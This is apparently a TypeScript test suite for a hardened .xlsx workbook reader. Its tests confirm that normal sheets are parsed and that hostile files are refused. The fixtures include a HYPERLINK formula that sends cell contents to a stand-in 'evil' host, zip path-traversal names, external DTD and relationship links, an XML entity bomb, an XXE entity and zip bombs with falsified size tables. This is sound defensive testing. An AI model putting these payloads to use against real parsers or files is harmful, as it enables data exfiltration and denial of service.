import { deflateRawSync } from 'node:zlib';
import { type NumberedRow, Workbook } from '../../../src/platform/spreadsheet/index.js';
import { WORKBOOK_LIMITS, type WorkbookLimits } from '../../../src/platform/spreadsheet/limits.js';
import { aWorkbook, onDisk, zipped, zippedStream, type WorkbookSource } from '../../builders/workbooks.js';

const MIB = 1024 * 1024;

const read = (content: Buffer, sheet = 'S', limits: WorkbookLimits = WORKBOOK_LIMITS): Promise<NumberedRow[]> =>
  onDisk(content, async (path) => {
    const workbook = await Workbook.open(path, limits);
    try {
      const rows: NumberedRow[] = [];
      for await (const some of workbook.rows(sheet)) rows.push(...some);
      return rows;
    } finally {
      workbook.close();
    }
  });
const texts = (rows: readonly NumberedRow[]) => rows.map(({ cells }) => Array.from(cells, (cell) => cell?.text ?? null));
const over = (files: Record<string, string>, sheets: WorkbookSource['sheets'] = { S: [['a']] }) => aWorkbook({ sheets, over: files });
const sheet = (xml: string) => over({ 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${xml}</sheetData></worksheet>` });

describe('reads', () => {
  test.each([true, false])('texts, numbers as they are written, and holes (shared texts: %s)', async (shares) => {
    const sheets = {
      Autre: [['x']],
      S: [['N° EJ', '', 'Montant <payé>'], [null, { n: '1234.5600000000001' }, 'é & 😀'], [{ inline: 'là' }]],
    };
    const rows = await read(await aWorkbook({ sheets, shares }));
    expect(texts(rows)).toEqual([['N° EJ', null, 'Montant <payé>'], [null, '1234.5600000000001', 'é & 😀'], ['là']]);
    expect(rows[1]?.cells[1]).toMatchObject({ kind: 'number', isComputed: false });
  });

  test('what a formula was worth, and says so; it is never evaluated', async () => {
    const rows = await read(await aWorkbook({ sheets: { S: [[{ f: 'HYPERLINK("http://evil/"&A1)', v: '42' }]] } }));
    expect(rows[0]?.cells[0]).toEqual({ kind: 'number', text: '42', isComputed: true });
  });

  test('a formula without a value is an empty cell', async () => {
    expect(await read(await sheet('<row><c r="A1"><f>1+1</f></c><c r="B1"><v>3</v></c></row>'))).toMatchObject([{ number: 1 }]);
  });

  test('rows and cells that say not where they stand, prefixes, rich texts without their reading', async () => {
    const xml =
      '<x:row><x:c><x:v>1</x:v></x:c><x:c t="inlineStr"><x:is><x:r><x:t>a</x:t></x:r><x:rPh><x:t>ignoré</x:t></x:rPh><x:r><x:t>b</x:t></x:r></x:is></x:c></x:row>';
    const rows = await read(
      await over({ 'xl/worksheets/sheet1.xml': `<x:worksheet xmlns:x="http://x"><x:sheetData>${xml}</x:sheetData></x:worksheet>` }),
    );
    expect(texts(rows)).toEqual([['1', 'ab']]);
  });

  test('truths and errors as neither texts nor numbers', async () => {
    const rows = await read(await sheet('<row r="5"><c r="A5" t="b"><v>1</v></c><c r="B5" t="e"><v>#REF!</v></c></row>'));
    expect(rows).toMatchObject([{ number: 5, cells: [{ kind: 'other' }, { kind: 'other', text: '#REF!' }] }]);
  });

  test('100,000 rows, and not one more', async () => {
    const rows = Array.from({ length: 100_000 }, () => ['a']);
    const read100k = await read(await aWorkbook({ sheets: { S: rows } }));
    expect(read100k).toHaveLength(100_000);
    await expect(read(await aWorkbook({ sheets: { S: [...rows, ['a']] } }))).rejects.toThrow(/dépasse 100000 lignes/);
  });
});

describe('refuses', () => {
  const encrypted = async () => {
    const zip = await aWorkbook({ sheets: { S: [['a']] } });
    // The bit that says so, in the header of each file and in the table.
    for (let at = 0; at < zip.length - 4; at++) {
      if (zip.readUInt32LE(at) === 0x04034b50) zip[at + 6]! |= 1;
      if (zip.readUInt32LE(at) === 0x02014b50) zip[at + 8]! |= 1;
    }
    return zip;
  };
  const renamed = async (from: string, to: string) => {
    const zip = await zipped({ [from]: 'x', 'xl/workbook.xml': '<workbook/>' });
    return Buffer.from(zip.toString('latin1').replaceAll(from, to), 'latin1');
  };

  test.each<[string, () => Promise<Buffer> | Buffer, RegExp]>([
    ['nothing', () => Buffer.alloc(0), /n’est pas un fichier .xlsx/],
    ['a text', () => Buffer.from('N° EJ;Montant'), /n’est pas un fichier .xlsx/],
    ['an old .xls', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(600)]), /n’est pas un fichier .xlsx/],
    ['a file cut short', async () => (await aWorkbook({ sheets: { S: [['a']] } })).subarray(0, -40), /n’est pas un fichier .xlsx/],
    ['a zip of something else', () => zipped({ 'a.txt': 'a' }), /il y manque xl/],
    ['a sheet that is not there', () => aWorkbook({ sheets: { Autre: [['a']] } }), /pas de feuille « S »/],
    ['an encrypted file', encrypted, /mot de passe/],
    ['a name that leaves the archive', () => renamed('aaaaaaa/b', '../../../b'.slice(0, 9)), /mal formée/],
    ['an absolute name', () => renamed('aaaaaaa/b', '/etc/pass'), /mal formée/],
    ['a DTD', () => sheet('').then(() => over({ 'xl/worksheets/sheet1.xml': '<!DOCTYPE a SYSTEM "http://evil/x"><worksheet/>' })), /DTD/],
    [
      'an XML bomb',
      () =>
        over({
          'xl/sharedStrings.xml': '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>',
        }),
      /DTD/,
    ],
    ['an entity of its own', () => sheet('<row><c t="inlineStr"><is><t>&xxe;</t></is></c></row>'), /XML est mal formé/],
    ['XML that stops', () => over({ 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row><c><v>1</v>' }), /XML est mal formé/],
    [
      'what is no UTF-8',
      () => zipped({ 'xl/_rels/workbook.xml.rels': Buffer.from([0x3c, 0xff, 0xfe]), 'xl/workbook.xml': '<workbook/>' }),
      /endommagé/,
    ],
    [
      'links to other workbooks',
      () =>
        over({
          'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="r" Type="http://x/externalLink" Target="l.xml"/></Relationships>',
        }),
      /autres fichiers/,
    ],
    [
      'a sheet that stands elsewhere',
      () =>
        over({
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://evil/"/></Relationships>',
        }),
      /autres fichiers/,
    ],
    ['dates of 1904', () => over({ 'xl/workbook.xml': '<workbook><workbookPr date1904="1"/></workbook>' }), /1904/],
    ['a column too far', () => sheet('<row><c r="XFD1"><v>1</v></c></row>'), /100 colonnes/],
    ['cells that go back', () => sheet('<row><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>'), /cellules ne se suivent pas/],
    ['rows that go back', () => sheet('<row r="2"/><row r="1"/>'), /lignes ne se suivent pas/],
    ['a row of no number', () => sheet('<row r="x"/>'), /lignes ne se suivent pas/],
    ['a shared text that is not', () => sheet('<row><c t="s"><v>7</v></c></row>'), /n’existe pas/],
    ['a cell as long as a book', () => sheet(`<row><c t="str"><v>${'a'.repeat(40_000)}</v></c></row>`), /texte démesuré/],
    [
      'a shared text as long as a book',
      () => over({ 'xl/sharedStrings.xml': `<sst><si><t>${'a'.repeat(40_000)}</t></si></sst>` }),
      /texte démesuré/,
    ],
    [
      'too many files',
      async () => zipped(Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`f${n}`, 'x']))),
      /plus de 200 fichiers/,
    ],
    ['the same file twice', () => twice(), /deux fois/],
  ])('%s', async (_what, make, sentence) => {
    await expect(read(await make())).rejects.toMatchObject({ code: 'WORKBOOK_REFUSED', message: expect.stringMatching(sentence) });
  });

  async function twice(): Promise<Buffer> {
    const zip = await zipped({ aaaa: 'x', bbbb: 'y' });
    return Buffer.from(zip.toString('latin1').replaceAll('bbbb', 'aaaa'), 'latin1');
  }

  test('what unfolds out of all proportion, before it unfolds', async () => {
    const bomb = await over({ 'xl/worksheets/sheet1.xml': `<worksheet>${' '.repeat(30 * MIB)}</worksheet>` });
    expect(bomb.length).toBeLessThan(100_000);
    await expect(read(bomb)).rejects.toThrow(/démesurée/);
  });

  test('a table that understates what unfolds', async () => {
    const honest = await over({ 'xl/worksheets/sheet1.xml': `<worksheet>${' '.repeat(30 * MIB)}</worksheet>` });
    const size = 30 * MIB + '<worksheet></worksheet>'.length;
    const lie = Buffer.from(honest);
    for (let at = 0; at < lie.length - 4; at++) if (lie.readUInt32LE(at) === size) lie.writeUInt32LE(1000, at);
    await expect(read(lie)).rejects.toMatchObject({ code: 'WORKBOOK_REFUSED' });
  });

  test('more than 256 MiB in all, by the table alone', async () => {
    const zip = await zipped({ 'xl/workbook.xml': '<workbook/>' });
    const lie = Buffer.from(zip);
    for (let at = 0; at < lie.length - 4; at++) if (lie.readUInt32LE(at) === 0x02014b50) lie.writeUInt32LE(300 * MIB, at + 24);
    await expect(read(lie)).rejects.toThrow(/256 Mio/);
  });

  test.each([
    ['a comment', '<!--', '-->'],
    ['an attribute', '<worksheet a="', '"/>'],
    ['a text that never ends', '<worksheet>', '</worksheet>'],
  ])('%s of 64 MiB, without holding it', async (_what, before, after) => {
    function* content(): Generator<string> {
      yield before;
      // Hard to compress, so that only its length is wrong.
      for (let sent = 0; sent < 64; sent++)
        yield deflateRawSync(Buffer.from(`${Math.random()}`))
          .toString('hex')
          .padEnd(MIB, `${Math.random()}`);
      yield after;
    }
    const files = {
      'xl/workbook.xml': '<workbook><sheets><sheet name="S" r:id="r"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="r" Target="s.xml"/></Relationships>',
    };
    const zip = await zippedStream(files, 'xl/s.xml', content());
    const loose = { ...WORKBOOK_LIMITS, ratio: 1_000_000 };
    await expect(read(zip, 'S', loose)).rejects.toThrow(/texte démesuré/);
  });

  test('shared texts past what may be held', async () => {
    const many = `<sst>${'<si><t>abcdefghij</t></si>'.repeat(1000)}</sst>`;
    await expect(read(await over({ 'xl/sharedStrings.xml': many }), 'S', { ...WORKBOOK_LIMITS, sharedLength: 5000 })).rejects.toThrow(
      /ses textes sont démesurés/,
    );
  });
});
